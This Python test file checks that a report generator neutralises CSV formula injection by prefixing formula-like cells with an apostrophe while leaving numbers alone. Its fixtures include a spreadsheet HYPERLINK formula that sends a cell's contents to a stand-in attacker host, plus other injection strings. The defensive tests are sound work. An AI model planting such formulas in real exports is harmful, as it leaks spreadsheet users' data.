"""CSV injection: text cells a spreadsheet would run as a formula are neutralised by default
(spec.report.csvFormulaEscaping), numbers stay numbers, and the opt-out writes raw text."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path
from typing import Any

from report_support import build, make_spec

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
NOTES = [HYPERLINK, "+1+2", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd", "plain", "a=b"]


def _sample() -> dict[str, Any]:
    rows = [{"note": note, "delta": -3 - i, "amount": Decimal("-1.50")}
            for i, note in enumerate(NOTES)]
    return {"datasets": {"usage": rows, "totals": [{"n": 1}]}, "previous": {"totals": []}}


def _read(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode(), newline="")))


def _spec(**report: Any) -> Any:
    return make_spec(formats=["csv"], datasets=[{"name": "usage", "query": "SELECT 1"}],
                     report={"summaryDataset": None, "columns": None, **report})


def test_formulas_are_neutralised_and_numbers_stay_numbers(tmp_path: Path) -> None:
    build(tmp_path, _spec(), sample=_sample())
    header, *rows = _read(tmp_path / "usage.csv")
    assert header == ["note", "delta", "amount"]
    assert [r[0] for r in rows] == ["'" + n for n in NOTES[:6]] + ["plain", "a=b"]
    assert [r[1] for r in rows] == [str(-3 - i) for i in range(len(NOTES))]
    assert {r[2] for r in rows} == {"-1.50"}


def test_the_opt_out_writes_the_raw_text(tmp_path: Path) -> None:
    build(tmp_path, _spec(csvFormulaEscaping=False), sample=_sample())
    _, *rows = _read(tmp_path / "usage.csv")
    assert [r[0] for r in rows] == NOTES


def test_numeric_text_in_a_numeric_column_is_not_escaped(tmp_path: Path) -> None:
    spec = _spec(columns={"usage": [{"name": "delta", "type": "integer"}]})
    sample = {"datasets": {"usage": [{"note": "-3", "delta": "-3", "amount": "=1+1"}]}}
    build(tmp_path, spec, sample=sample)
    assert _read(tmp_path / "usage.csv")[1] == ["'-3", "-3", "'=1+1"]


def test_a_column_name_cannot_be_a_formula_either(tmp_path: Path) -> None:
    from bulletin.render.columns import ColumnInfo
    from bulletin.render.csv import CsvOutput

    out = CsvOutput(tmp_path, "x", ["x"], bom=False)
    with out.dataset("x", [ColumnInfo(HYPERLINK), ColumnInfo("b")]) as writer:
        writer.write([(HYPERLINK, -1)])
    out.close()
    assert _read(tmp_path / "x.csv") == [["'" + HYPERLINK, "b"], ["'" + HYPERLINK, "-1"]]


def test_mixed_columns_nulls_and_false_alarms(tmp_path: Path) -> None:
    from bulletin.render.columns import ColumnInfo
    from bulletin.render.csv import CsvOutput

    columns = [ColumnInfo("a"), ColumnInfo("b")]
    rows = [(None, 1), ("=1+1", None), ("x\x00=y", 2), (3, "@x")]
    for column, value in zip(columns, ("text", 1), strict=True):
        column.observe(value)
    out = CsvOutput(tmp_path, "s", ["d"], bom=False)
    with out.dataset("d", columns) as writer:
        writer.write(rows)
    out.close()
    assert _read(tmp_path / "d.csv")[1:] == [["", "1"], ["'=1+1", ""], ["x\x00=y", "2"],
                                             ["3", "'@x"]]
